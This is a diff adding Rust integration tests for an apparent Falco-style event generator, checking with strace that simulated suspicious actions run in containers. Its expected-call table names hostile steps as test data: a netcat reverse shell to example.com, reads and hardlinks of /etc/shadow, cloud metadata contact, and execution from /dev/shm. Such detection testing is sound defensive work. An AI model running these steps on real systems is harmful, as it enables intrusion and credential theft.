@@ -3,6 +3,7 @@
 //! that can run in a container runs there to completion, leaves what it must (and only that),
 //! and makes the system calls its description names (checked with `strace -f` around
 //! `runc exec`, a differential check independent of the tool's own report).
+#![allow(clippy::unwrap_used, clippy::expect_used, clippy::panic)]
 
 use std::collections::BTreeMap;
 use std::path::{Path, PathBuf};
@@ -10,7 +11,7 @@ use std::process::Command;
 use std::sync::OnceLock;
 use std::time::{Duration, Instant};
 
-use rampart_testkit::eventgen::{self, Action, Applicability, Profile, Rootfs, Sandbox};
+use rampart_testkit::eventgen::{self, Action, Profile, Rootfs, Sandbox};
 use rampart_testkit::tools;
 
 fn bin() -> PathBuf {
@@ -112,9 +113,40 @@ fn run_all(sandboxes: &BTreeMap<Profile, Sandbox>, actions: &[Action]) -> Vec<ev
     })
 }
 
+/// The `comm` of every process in the sandbox, its parent's and its exe, read while `during`
+/// runs.
+fn names_while<T>(sandbox: &Sandbox, during: &std::thread::ScopedJoinHandle<'_, T>) -> Vec<String> {
+    let mut seen = Vec::new();
+    while !during.is_finished() {
+        let out = sandbox.exec(&[
+            "sh",
+            "-c",
+            "for p in /proc/[0-9]*; do echo \"$(cat $p/comm) $(cat /proc/$(awk '{print $4}' $p/stat)/comm 2>/dev/null) $(readlink $p/exe)\"; done",
+        ]);
+        seen.extend(
+            String::from_utf8_lossy(&out.stdout)
+                .lines()
+                .map(str::to_string),
+        );
+        std::thread::sleep(Duration::from_millis(300));
+    }
+    seen
+}
+
+/// Every `falco-event-generator-*` entry left in the root filesystem's writable places.
+fn leftovers(sandbox: &Sandbox) -> String {
+    let out = sandbox.exec(&[
+        "sh",
+        "-c",
+        "ls -a /tmp /bin /etc /lib /root /home /dev /dev/shm /var/lib/rpm 2>/dev/null | grep -e falco-event-generator -e release_agent; ls /release_agent 2>/dev/null; true",
+    ]);
+    String::from_utf8_lossy(&out.stdout).into_owned()
+}
+
 #[test]
 fn every_applicable_action_runs_in_a_container() {
-    let rootfs = rootfs();
+    // its own root filesystem: the leftover check below must not see the other tests' actions
+    let rootfs = &Rootfs::build(&bin());
     let sandboxes: BTreeMap<Profile, Sandbox> = [Profile::Default, Profile::Privileged]
         .into_iter()
         .map(|p| (p, Sandbox::start(rootfs, p)))
@@ -126,6 +158,14 @@ fn every_applicable_action_runs_in_a_container() {
     let t = Instant::now();
     let runs = run_all(&sandboxes, &actions);
     let total = t.elapsed();
+    for s in sandboxes.values() {
+        assert_eq!(leftovers(s), "", "an action left files behind in {}", s.id);
+    }
+    // ModifyBinaryDirs renamed it back
+    assert_eq!(
+        std::fs::read_link(rootfs.dir.join("bin/true")).unwrap(),
+        Path::new("/bin/busybox")
+    );
     let mut bad = Vec::new();
     for r in &runs {
         eprintln!(
@@ -153,4 +193,386 @@ fn every_applicable_action_runs_in_a_container() {
         total < Duration::from_secs(40),
         "the action set took {total:?}"
     );
+}
+
+#[test]
+fn a_trusted_server_name_reads_shadow_six_seconds_after_its_start() {
+    // the process the rule sees: comm `httpd` (the symlink's name), exe the tool itself, parent
+    // the tool; and /etc/shadow is read only after the 5 s `proc_is_new` window
+    let sandbox = Sandbox::start(rootfs(), Profile::Default);
+    let action = eventgen::action("syscall.ReadSensitiveFileTrustedAfterStartup");
+    let (run, seen) = std::thread::scope(|s| {
+        let h = s.spawn(|| sandbox.run(&action));
+        let seen = names_while(&sandbox, &h);
+        (h.join().unwrap(), seen)
+    });
+    assert!(run.succeeded(), "{run:?}");
+    assert!(run.elapsed >= Duration::from_secs(6), "{:?}", run.elapsed);
+    assert!(
+        seen.iter()
+            .any(|l| l == &format!("httpd rampart-eventge {}", eventgen::IN_CONTAINER)),
+        "no process named httpd, child of rampart-eventgen, running the tool: {seen:#?}"
+    );
+}
+
+#[test]
+fn preconditions_skip_as_upstream_does() {
+    let rootfs = rootfs();
+    let default = Sandbox::start(rootfs, Profile::Default);
+    let privileged = Sandbox::start(rootfs, Profile::Privileged);
+    // host-only actions, in a container
+    for name in [
+        "syscall.LaunchSuspiciousNetworkToolOnHost",
+        "syscall.UserMgmtBinaries",
+    ] {
+        let r = default.run_name(name);
+        assert!(
+            r.skipped() && r.stderr.contains("only on the host"),
+            "{r:?}"
+        );
+    }
+    // CAP_SYS_ADMIN actions, without it
+    for a in eventgen::actions().iter().filter(|a| a.needs_privileged) {
+        let r = default.run(a);
+        assert!(r.skipped() && r.stderr.contains("CAP_SYS_ADMIN"), "{r:?}");
+    }
+    // the unshare action wants a container *without* CAP_SYS_ADMIN
+    let r = privileged.run_name("syscall.ChangeNamespacePrivilegesViaUnshare");
+    assert!(r.skipped() && r.stderr.contains("CAP_SYS_ADMIN"), "{r:?}");
+    // container-only actions, on the host (the tool is not PID 1 there)
+    let out = Command::new(bin())
+        .args(["run", "syscall.PacketSocketCreatedInContainer"])
+        .output()
+        .unwrap();
+    assert_eq!(out.status.code(), Some(3), "{out:?}");
+    // unknown action: usage error
+    let out = Command::new(bin())
+        .args(["run", "syscall.Nope"])
+        .output()
+        .unwrap();
+    assert_eq!(out.status.code(), Some(2), "{out:?}");
+}
+
+/// One expected line of `strace -f` output: every substring on one line, and a success
+/// (`= -1 ...` absent) when `ok`.
+struct Call {
+    all: &'static [&'static str],
+    ok: bool,
+}
+
+const fn ok(all: &'static [&'static str]) -> Call {
+    Call { all, ok: true }
+}
+const fn any(all: &'static [&'static str]) -> Call {
+    Call { all, ok: false }
+}
+
+/// The system calls each action's description names.
+const SYSCALLS: &[(&str, Profile, &[Call])] = &[
+    // under strace -f the child is already traced by strace: PTRACE_ATTACH and PTRACE_TRACEME are
+    // refused (EPERM) there, the call is what this checks (their success is checked without
+    // strace by every_applicable_action_runs_in_a_container)
+    (
+        "PtraceAttachedToProcess",
+        Profile::Default,
+        &[any(&["ptrace(PTRACE_ATTACH, "])],
+    ),
+    (
+        "PtraceAntiDebugAttempt",
+        Profile::Default,
+        &[any(&["ptrace(PTRACE_TRACEME"])],
+    ),
+    (
+        "FilelessExecutionViaMemfdCreate",
+        Profile::Default,
+        &[
+            ok(&["memfd_create(\"program\", 0)"]),
+            ok(&["execve(\"/proc/self/fd/", "\"run\", \"helper.DoNothing\""]),
+        ],
+    ),
+    (
+        "PacketSocketCreatedInContainer",
+        Profile::Default,
+        &[ok(&["socket(AF_PACKET, SOCK_RAW, htons(ETH_P_ALL))"])],
+    ),
+    (
+        "CreateSymlinkOverSensitiveFiles",
+        Profile::Default,
+        &[
+            ok(&["execve(", "\"ln\", \"-s\", \"/etc\""]),
+            ok(&["symlink", "\"/etc\", ", "/etc_link\""]),
+        ],
+    ),
+    (
+        "CreateHardlinkOverSensitiveFiles",
+        Profile::Default,
+        &[ok(&["link", "\"/etc/shadow\", ", "/shadow_link\""])],
+    ),
+    (
+        "ReadSensitiveFileUntrusted",
+        Profile::Default,
+        &[ok(&["openat(AT_FDCWD, \"/etc/shadow\", O_RDONLY"])],
+    ),
+    (
+        "DirectoryTraversalMonitoredFileRead",
+        Profile::Default,
+        &[ok(&[
+            "openat(AT_FDCWD, \"/etc/../etc/../etc/shadow\", O_RDONLY",
+        ])],
+    ),
+    (
+        "NonSudoSetuid",
+        Profile::Default,
+        &[
+            ok(&[
+                "execve(\"/tmp/falco-event-generator-syscall-NonSudoSetuid-",
+                "/child\"",
+            ]),
+            ok(&["setuid(1)"]),
+            any(&["setuid(0)", "= -1 EPERM"]),
+        ],
+    ),
+    (
+        "UnprivilegedDelegationOfPageFaultsHandlingToAUserspaceProcess",
+        Profile::Default,
+        &[ok(&["setuid(1)"]), any(&["userfaultfd("])],
+    ),
+    (
+        "ChangeNamespacePrivilegesViaUnshare",
+        Profile::Default,
+        &[any(&["unshare(0)"])],
+    ),
+    (
+        "ChangeThreadNamespace",
+        Profile::Privileged,
+        &[any(&["setns(0, 0)"])],
+    ),
+    (
+        "DebugfsLaunchedInPrivilegedContainer",
+        Profile::Privileged,
+        &[
+            ok(&["unshare(CLONE_NEWNS|CLONE_NEWUSER)"]),
+            ok(&["execve(\"/usr/bin/debugfs\", [\"debugfs\", \"-V\"]"]),
+        ],
+    ),
+    (
+        "ContactEC2InstanceMetadataServiceFromContainer",
+        Profile::Default,
+        &[any(&[
+            "connect(",
+            "htons(80)",
+            "inet_addr(\"169.254.169.254\")",
+            "EINPROGRESS",
+        ])],
+    ),
+    (
+        "DisallowedSSHConnectionNonStandardPort",
+        Profile::Default,
+        &[
+            ok(&["execve(\"/usr/bin/ssh\", [\"ssh\", \"user@example.com\", \"-p\", \"443\"]"]),
+            any(&[
+                "connect(",
+                "htons(443)",
+                "inet_addr(\"203.0.113.10\")",
+                "EINPROGRESS",
+            ]),
+        ],
+    ),
+    (
+        "UnexpectedUDPTraffic",
+        Profile::Default,
+        &[
+            ok(&["socket(AF_INET, SOCK_DGRAM"]),
+            ok(&["connect(", "htons(22)", "inet_addr(\"203.0.113.10\")"]),
+        ],
+    ),
+    (
+        "SystemProcsNetworkActivity",
+        Profile::Default,
+        &[
+            ok(&[
+                "execve(\"/tmp/falco-event-generator-syscall-SystemProcsNetworkActivity-",
+                "/sha1sum\"",
+            ]),
+            ok(&["connect(", "htons(8192)", "inet_addr(\"10.2.3.4\")"]),
+        ],
+    ),
+    (
+        "InterpretedProcsInboundNetworkActivity",
+        Profile::Default,
+        &[
+            ok(&[
+                "execve(\"/tmp/falco-event-generator-syscall-InterpretedProcsInboundNetworkActivity-",
+                "/lua\"",
+            ]),
+            ok(&["bind(", "inet_addr(\"10.200.0.2\")"]),
+            ok(&["listen("]),
+        ],
+    ),
+    (
+        "RunShellUntrusted",
+        Profile::Default,
+        &[
+            ok(&[
+                "execve(\"/tmp/falco-event-generator-syscall-RunShellUntrusted-",
+                "/httpd\", [",
+                "\"run\", \"helper.RunShell\"]",
+            ]),
+            ok(&["execve(\"/bin/sh\", [\"sh\", \"-c\", \"ls > /dev/null\"]"]),
+        ],
+    ),
+    (
+        "DropAndExecuteNewBinaryInContainer",
+        Profile::Default,
+        &[ok(&[
+            "execve(\"/bin/falco-event-generator-syscall-DropAndExecuteNewBinaryInContainer-",
+        ])],
+    ),
+    (
+        "ExecutionFromDevShm",
+        Profile::Default,
+        &[ok(&[
+            "execve(\"/bin/sh\", [\"sh\", \"-c\", \"/dev/shm/falco-event-generator-syscall-ExecutionFromDevShm-",
+        ])],
+    ),
+    (
+        "ModifyBinaryDirs",
+        Profile::Default,
+        &[ok(&[
+            "rename",
+            "\"/bin/true\", ",
+            "\"/bin/true.falco-event-generator-syscall-ModifyBinaryDirs-",
+        ])],
+    ),
+    (
+        "SetSetuidOrSetgidBit",
+        Profile::Default,
+        &[ok(&["chmod(", "SetSetuidOrSetgidBit-", "4600)"])],
+    ),
+    (
+        "ContainerDriftDetectedOpenCreate",
+        Profile::Default,
+        &[ok(&[
+            "openat(AT_FDCWD, \"/tmp/falco-event-generator-syscall-ContainerDriftDetectedOpenCreate-",
+            "O_CREAT",
+            "0755)",
+        ])],
+    ),
+    (
+        "WriteBelowEtc",
+        Profile::Default,
+        &[ok(&[
+            "openat(AT_FDCWD, \"/etc/falco-event-generator-syscall-WriteBelowEtc-",
+            "O_CREAT|O_EXCL",
+        ])],
+    ),
+    (
+        "NetcatRemoteCodeExecutionInContainer",
+        Profile::Default,
+        &[ok(&[
+            "execve(\"/usr/bin/nc\", [\"nc\", \"-e\", \"/bin/sh\", \"example.com\", \"22\"]",
+        ])],
+    ),
+];
+
+const TRACED: &str = "execve,ptrace,memfd_create,socket,connect,bind,listen,setuid,setns,unshare,\
+symlink,symlinkat,link,linkat,openat,rename,renameat,renameat2,chmod,fchmodat,userfaultfd";
+
+#[test]
+fn strace_sees_the_system_calls_each_description_names() {
+    tools::ensure_tool("strace", "strace");
+    let rootfs = rootfs();
+    let sandboxes: BTreeMap<Profile, Sandbox> = [Profile::Default, Profile::Privileged]
+        .into_iter()
+        .map(|p| (p, Sandbox::start(rootfs, p)))
+        .collect();
+    let dir = tempfile::tempdir().unwrap();
+    let mut missing = Vec::new();
+    for (name, profile, calls) in SYSCALLS {
+        let action = format!("syscall.{name}");
+        let log = dir.path().join(name);
+        let inner = sandboxes[profile].run_command(&action);
+        let out = Command::new("strace")
+            .args(["-f", "-qq", "-s", "256", "-e"])
+            .arg(format!("trace={TRACED}"))
+            .arg("-o")
+            .arg(&log)
+            .arg(inner.get_program())
+            .args(inner.get_args())
+            .output()
+            .unwrap();
+        let trace = std::fs::read_to_string(&log).unwrap();
+        for call in *calls {
+            let found = trace.lines().any(|l| {
+                call.all.iter().all(|s| l.contains(s)) && (!call.ok || !l.contains("= -1 "))
+            });
+            if !found {
+                let related: Vec<&str> = trace
+                    .lines()
+                    .filter(|l| call.all.first().is_some_and(|s| l.contains(s)))
+                    .take(8)
+                    .collect();
+                missing.push(format!(
+                    "{action} ({}): no line with {:?}{}; lines with {:?}: {related:#?}",
+                    out.status,
+                    call.all,
+                    if call.ok { " succeeding" } else { "" },
+                    call.all.first()
+                ));
+            }
+        }
+    }
+    assert!(missing.is_empty(), "{}", missing.join("\n"));
+}
+
+#[test]
+fn the_netcat_stand_in_hands_the_connection_to_the_program_with_dup2() {
+    // what `nc -e` does once connected (in the sandbox nothing answers, so only here): the
+    // socket becomes the program's standard input and output
+    tools::ensure_tool("strace", "strace");
+    let dir = tempfile::tempdir().unwrap();
+    let nc = dir.path().join("nc");
+    std::os::unix::fs::symlink(bin(), &nc).unwrap();
+    let listener = std::net::TcpListener::bind("127.0.0.1:0").unwrap();
+    let port = listener.local_addr().unwrap().port().to_string();
+    let accept = std::thread::spawn(move || listener.accept().map(|(_, peer)| peer));
+    let log = dir.path().join("trace");
+    let out = Command::new("strace")
+        .args(["-f", "-qq", "-e", "trace=connect,dup2,dup3,execve", "-o"])
+        .arg(&log)
+        .arg(&nc)
+        .args(["-e", "/bin/true", "127.0.0.1", &port])
+        .output()
+        .unwrap();
+    assert!(out.status.success(), "{out:?}");
+    assert!(accept.join().unwrap().is_ok());
+    let trace = std::fs::read_to_string(&log).unwrap();
+    let line = |all: &[&str]| trace.lines().any(|l| all.iter().all(|s| l.contains(s)));
+    // nonblocking, as in the sandbox: EINPROGRESS, then completed
+    assert!(
+        line(&[
+            "connect(",
+            &format!("htons({port})"),
+            "127.0.0.1",
+            "EINPROGRESS"
+        ]),
+        "{trace}"
+    );
+    assert!(
+        line(&["dup2(", ", 0)", "= 0"]),
+        "no dup2 onto stdin: {trace}"
+    );
+    assert!(
+        line(&["dup2(", ", 1)", "= 1"]),
+        "no dup2 onto stdout: {trace}"
+    );
+    assert!(line(&["execve(\"/bin/true\""]), "{trace}");
+}
+
+#[test]
+fn other_crates_get_the_binary_through_cargo() {
+    // what a test outside this crate (no CARGO_BIN_EXE_ there) calls
+    let built = eventgen::binary();
+    let listed = tools::run(built.to_str().unwrap(), &["list"]);
+    assert_eq!(listed.lines().count(), 66);
 }
